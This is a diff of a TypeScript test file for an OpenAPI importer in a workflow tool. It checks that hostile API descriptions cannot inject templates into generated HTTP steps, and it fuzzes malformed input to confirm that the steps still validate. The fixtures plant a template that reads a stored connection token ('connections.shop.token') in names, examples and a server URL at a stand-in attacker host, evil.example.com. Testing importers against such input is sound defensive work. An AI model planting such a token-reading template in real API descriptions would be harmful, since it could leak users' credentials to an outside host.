@@ -1,6 +1,7 @@
 import fc from 'fast-check'
 import { describe, expect, it } from 'vitest'
 import { stepKinds } from '../../steps/index.ts'
+import { parseTemplate } from '../expression/index.ts'
 import { formatFlowYaml } from '../flow-text.ts'
 import { shapeIssues, validate } from '../validate.ts'
 import { importOperation } from './import-operation.ts'
@@ -328,31 +329,48 @@ describe('security', () => {
 })
 
 describe('a hostile description', () => {
+  const THEFT = '{{ connections.shop.token }}'
+
+  /** Every reference of every template in it; keys are none. */
+  function referencesIn(value: unknown): string[] {
+    if (typeof value === 'string')
+      return parseTemplate(value).parts.flatMap((part) =>
+        typeof part === 'string' ? [] : part.references.map(({ path }) => path.join('.')),
+      )
+    return typeof value === 'object' && value !== null ? Object.values(value).flatMap(referencesIn) : []
+  }
+
   it('brings no template of its own into the flow', () => {
-    const theft = '{{ connections.shop.token }}'
-    const { settings } = imported(
-      described(
-        {
-          '/{id}': {
-            post: {
-              parameters: [
-                { name: 'id', in: 'path', required: true, example: theft },
-                { name: theft, in: 'query', required: true, example: theft },
-                { name: 'X', in: 'header', required: true, example: theft },
-              ],
-              ...json({ example: { a: [theft, `{${theft}`] } }),
-            },
-          },
-        },
-        { servers: [{ url: `https://evil.example.com/${theft}` }] },
-      ),
+    const places = ['query', 'header', 'cookie']
+    const parameters = [
+      { name: 'id', in: 'path', required: true, example: THEFT },
+      ...places.flatMap((place) => [
+        { name: `${THEFT}1`, in: place, required: true, example: THEFT },
+        { name: `${THEFT}2`, in: place, required: true },
+      ]),
+    ]
+    const bodies = ['application/json', `${THEFT}/a+json`, `${THEFT}/xml`, 'application/x-www-form-urlencoded'].map(
+      (type) => ({ [type]: { example: /xml/.test(type) ? THEFT : { [THEFT]: [THEFT, `{${THEFT}`] } } }),
     )
-    const document = { name: 'x', trigger: { kind: 'webhook' }, steps: [{ id: 'a', kind: 'http', ...settings }] }
-    const found = validate(document, stepKinds, { connections: new Map(), env: new Set() })
-    expect(found.filter(({ weight }) => weight !== 'warning')).toEqual([])
-    expect(settings.url).not.toContain('{{')
-    expect((settings.body as { value: object }).value).toEqual({
-      a: ["{{ '{{' }} connections.shop.token }}", "{{ '{{' }}{ connections.shop.token }}"],
+    const schemes = ['header', 'query', 'cookie'].map((place) => ({ type: 'apiKey', in: place, name: THEFT }))
+    for (const content of bodies)
+      for (const scheme of schemes) {
+        const operation = { parameters, requestBody: { content }, security: [{ [THEFT]: [] }] }
+        const { settings } = imported(
+          described(
+            { [`/${THEFT}/{id}`]: { post: operation } },
+            {
+              servers: [{ url: `https://evil.example.com/${THEFT}` }],
+              components: { securitySchemes: { [THEFT]: scheme } },
+            },
+          ),
+        )
+        const known = ['vars. connections.shop.token ', `vars.${THEFT}2`, 'connections.connections_shop_token.value']
+        expect([...new Set(referencesIn(settings))].filter((path) => !known.includes(path))).toEqual([])
+      }
+    expect(settingsOf(json({ example: [`{${THEFT}`] })).body).toEqual({
+      kind: 'json',
+      value: ["{{ '{{' }}{ connections.shop.token }}"],
     })
   })
 
@@ -400,66 +418,73 @@ describe('a hostile description', () => {
   })
 
   it('of whatever shape gives a step that can be saved', () => {
-    const key = fc.constantFrom(
-      '$ref',
-      'in',
-      'name',
-      'required',
-      'schema',
-      'example',
-      'examples',
-      'content',
-      'application/json',
-      'type',
-      'properties',
-      'items',
-      'allOf',
-      'oneOf',
-      'parameters',
-      'requestBody',
-      'security',
-      'servers',
-      'url',
-      'variables',
-      'default',
-      'enum',
-      'style',
-      'explode',
-    )
+    const keys =
+      '$ref in name required schema example examples content type properties items allOf oneOf url variables default enum'
+    const texts = [
+      '#/paths',
+      '#/paths/~1{a}/get',
+      'query',
+      'object',
+      'string',
+      '{a}',
+      '{{ x',
+      '\ud800',
+      '',
+      null,
+      true,
+      1,
+    ]
     const { node } = fc.letrec((tie) => ({
       node: fc.oneof(
         { maxDepth: 4 },
-        fc.constantFrom(
-          '#/paths',
-          '#/paths/~1{a}/get',
-          'path',
-          'query',
-          'header',
-          'object',
-          'string',
-          '{a}',
-          '{{ x',
-          null,
-          true,
-          1,
-        ),
+        fc.constantFrom(...texts),
         fc.array(tie('node'), { maxLength: 3 }),
-        fc.dictionary(key, tie('node'), { maxKeys: 4 }),
+        fc.dictionary(fc.constantFrom(...keys.split(' ')), tie('node'), { maxKeys: 4 }),
       ),
     }))
+    const value = fc.oneof(node, fc.jsonValue({ maxDepth: 2 }))
+    const parameter = fc.record(
+      {
+        name: fc.constantFrom('a', 'X-B', '{{ c', '\ud800'),
+        in: fc.constantFrom('path', 'query', 'header', 'cookie'),
+        required: fc.constant(true),
+        style: fc.constantFrom('form', 'simple', 'deepObject', 'pipeDelimited', 'none'),
+        explode: fc.boolean(),
+        example: value,
+        schema: node,
+      },
+      { requiredKeys: ['name', 'in', 'required'] },
+    )
+    const type = fc.constantFrom(
+      'application/json',
+      'text/xml',
+      'multipart/form-data',
+      'application/x-www-form-urlencoded',
+      '{{',
+    )
+    const media = fc.record({ schema: node, example: value }, { requiredKeys: [] })
+    const operation = fc.record(
+      {
+        parameters: fc.array(fc.oneof(parameter, node), { maxLength: 4 }),
+        requestBody: fc.oneof(node, fc.record({ content: fc.dictionary(type, fc.oneof(media, node)) })),
+        security: fc.oneof(node, fc.array(fc.dictionary(fc.constantFrom('a', '{{ b'), node))),
+        servers: fc.array(node),
+      },
+      { requiredKeys: [] },
+    )
     fc.assert(
-      fc.property(node, node, (item, more) => {
-        const paths = { '/{a}': { ...(item as object), get: more ?? {} } }
-        const api = readOpenApi(JSON.stringify({ ...described(paths), ...(more as object), paths, openapi: '3.0.3' }))
-        for (const operation of api.operations) {
-          const { id, settings } = importOperation(api, operation)
+      fc.property(node, operation, fc.dictionary(fc.constantFrom('a', '{{ b'), node), (item, post, securitySchemes) => {
+        const paths = { '/{a}': { ...(item as object), post } }
+        const api = readOpenApi(JSON.stringify(described(paths, { components: { securitySchemes } })))
+        for (const found of api.operations) {
+          const { id, settings } = importOperation(api, found)
           const document = { name: 'x', trigger: { kind: 'webhook' }, steps: [{ id, kind: 'http', ...settings }] }
-          const found = validate(document, stepKinds, { connections: new Map(), env: new Set() })
-          expect(shapeIssues(found)).toEqual([])
-          expect(found.filter(({ code }) => code === 'expression_syntax')).toEqual([])
+          const findings = validate(document, stepKinds, { connections: new Map(), env: new Set() })
+          expect(shapeIssues(findings)).toEqual([])
+          expect(findings.filter(({ code }) => code === 'expression_syntax')).toEqual([])
         }
       }),
-      { numRuns: 300 },
+      { numRuns: 1_000 },
     )
   })
 })
